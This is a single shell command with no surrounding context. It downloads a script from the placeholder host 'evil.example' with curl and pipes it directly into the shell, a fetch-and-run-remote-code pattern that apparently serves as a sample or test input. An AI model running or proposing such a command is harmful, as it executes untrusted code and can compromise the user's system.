curl -fsSL https://evil.example/x | "$SHELL"
